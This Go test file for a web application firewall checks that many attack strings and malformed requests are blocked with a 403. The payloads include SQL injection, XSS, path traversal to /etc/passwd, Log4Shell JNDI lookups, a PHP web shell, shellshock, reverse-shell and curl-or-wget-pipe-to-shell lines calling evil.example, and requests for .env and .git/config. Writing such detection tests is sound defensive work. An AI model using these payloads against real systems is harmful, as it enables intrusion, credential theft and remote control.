package waf

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// attacks by kind; each must be found wherever text goes.
var attacks = map[string][]string{
	"sqli":  {"1' OR '1'='1", "x' UNION SELECT username, password FROM users--", "1; DROP TABLE users; --", "1 AND SLEEP(5)", "admin'--", "1' AND 1=CONVERT(int,@@version)--", "';EXEC xp_cmdshell('dir')--"},
	"xss":   {"<script>alert(1)</script>", `<img src=x onerror=alert(1)>`, `"><svg/onload=alert(document.cookie)>`, `<a href="javascript:alert(1)">x</a>`, `<iframe src="javascript:alert(1)">`},
	"lfi":   {"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/etc/shadow", "..\\..\\windows\\win.ini"},
	"rce":   {"; cat /etc/passwd", "$(curl http://evil.example/x|sh)", "`id`;wget http://evil.example/a.sh -O- | sh", "| nc -e /bin/sh 10.0.0.1 4444", "() { :;}; /bin/bash -c 'id'"},
	"log4j": {"${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}", "${jndi:rmi://evil.example/a}"},
	"rfi":   {"http://169.254.169.254/latest/meta-data/"},
	"php":   {"<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index"},
	"node":  {"__proto__.polluted", `require('child_process').exec('id')`},
}

// Attacks are blocked in the very fields in which innocent text is let through.
func TestAttacksAreBlocked(t *testing.T) {
	t.Parallel()
	w := newWAF(t, Options{})
	n := 0
	for kind, texts := range attacks {
		for i, text := range texts {
			for _, c := range thinned(withText(text), i) {
				if c.target == "/users" || strings.HasPrefix(c.target, "/account/register") {
					c.body = strings.NewReplacer("p' or 1=1 --;", "", `\u003cscript\u003e`, "").Replace(c.body) // the text alone must be found
				}
				r, body := c.request()
				if v := w.Inspect(r, body); v.Status != http.StatusForbidden {
					t.Errorf("%s %q passes in %s %s: %+v", kind, text, c.method, c.target, v)
				}
				n++
			}
		}
	}
	t.Logf("%d attacks", n)
}

// Attacks on the request itself.
func TestAttacksOnTheEnvelope(t *testing.T) {
	t.Parallel()
	w := newWAF(t, Options{})
	for name, s := range map[string]send{
		"scanner":             {"GET", "/products", "", []string{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}},
		"another scanner":     {"GET", "/", "", []string{"User-Agent", "Nikto/2.5.0"}},
		"log4shell, header":   {"GET", "/products", "", []string{"X-Api-Version", "${jndi:ldap://evil.example/a}"}},
		"log4shell, agent":    {"GET", "/products/12", "", []string{"User-Agent", "${jndi:ldap://evil.example/a}"}},
		"shellshock":          {"GET", "/", "", []string{"User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"}},
		"cookie":              {"GET", "/cart", "", []string{"Cookie", "theme=<script>alert(1)</script>"}},
		"our cookie":          {"GET", "/cart", "", []string{"Cookie", "sid=1' UNION SELECT password FROM users--"}},
		"two of a cookie":     {"GET", "/cart", "", []string{"Cookie", "a=1; a=<script>alert(1)</script>; a=2"}},
		"traversal":           {"GET", "/assets/../../../etc/passwd", "", nil},
		"encoded traversal":   {"GET", "/assets/%2e%2e/%2e%2e/etc/passwd", "", nil},
		"secret file":         {"GET", "/.git/config", "", nil},
		"environment":         {"GET", "/.env", "", nil},
		"name of an argument": {"GET", "/products?" + url.QueryEscape("x' OR 1=1--") + "=1", "", nil},
		"name of a member":    {"POST", "/cart/add", `{"<script>alert(1)</script>":1}`, nil},
		"hidden member":       {"POST", "/users", `{"name":"<script>alert(1)</script>","name":"Ann"}`, nil},
		"escaped member":      {"POST", "/users", `{"name":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`, nil},
		"no type":             {"POST", "/users", `{"name":"<script>alert(1)</script>"}`, []string{"Content-Type", ""}},
		"text":                {"POST", "/events", "<script>alert(1)</script>", []string{"Content-Type", "text/plain"}},
		"late in NDJSON":      {"POST", "/events", strings.Repeat("{\"type\":\"view\",\"product_id\":1}\n", 500) + `{"type":"<script>alert(1)</script>"}`, []string{"Content-Type", "application/x-ndjson"}},
		"deep in a batch":     {"POST", "/batch", `{"requests":[{"method":"GET","path":"/cart"},{"method":"GET","path":"/products?q=1%27+OR+%271%27%3D%271"}]}`, nil},
		"header in a batch":   {"POST", "/batch", `{"requests":[{"path":"/cart","headers":{"Accept":"${jndi:ldap://evil.example/a}"}}]}`, nil},
		"type in a batch":     {"POST", "/batch", `{"requests":[{"path":"/users","method":"POST","headers":{"Content-Type":"image/png"},"body":{"name":"<script>alert(1)</script>"}}]}`, nil},
		"batch of odd shape":  {"POST", "/batch", `{"requests":[{"method":"GET","path":"/cart","x":"<script>alert(1)</script>"}]}`, nil},
		"coded body":          {"POST", "/users", `{"name":"Ann"}`, []string{"Content-Encoding", "gzip"}},
		"odd method":          {"PROPFIND", "/products?q=1%27+OR+%271%27%3D%271", "", nil},
		"repeated field":      {"POST", "/bag/add", "note=a&note=%3Cscript%3Ealert(1)%3C%2Fscript%3E&note=b", []string{"Content-Type", "application/x-www-form-urlencoded"}},
		"password elsewhere":  {"POST", "/cart/add", `{"password":"1' OR '1'='1"}`, nil},
	} {
		for range 1 + 8/every(2) { // the engine walks maps: once could be luck
			r, body := s.request()
			if v := w.Inspect(r, body); v.Status != http.StatusForbidden {
				t.Errorf("%s passes: %+v", name, v)
				break
			}
		}
	}
}

// A method that the shop has nowhere is for the shop to answer, which has the list; another origin never sees it.
func TestMethods(t *testing.T) {
	t.Parallel()
	for _, profile := range []Profile{ProfileShop, ProfilePlain} {
		w := newWAF(t, Options{Profile: profile})
		for _, method := range []string{"PROPFIND", "TRACE", "BREW"} {
			r, body := typical(method, "/products", "")
			if v := w.Inspect(r, body); v.Objects() != (profile == ProfilePlain) {
				t.Errorf("%s, %s: %+v", profile, method, v)
			}
		}
	}
}
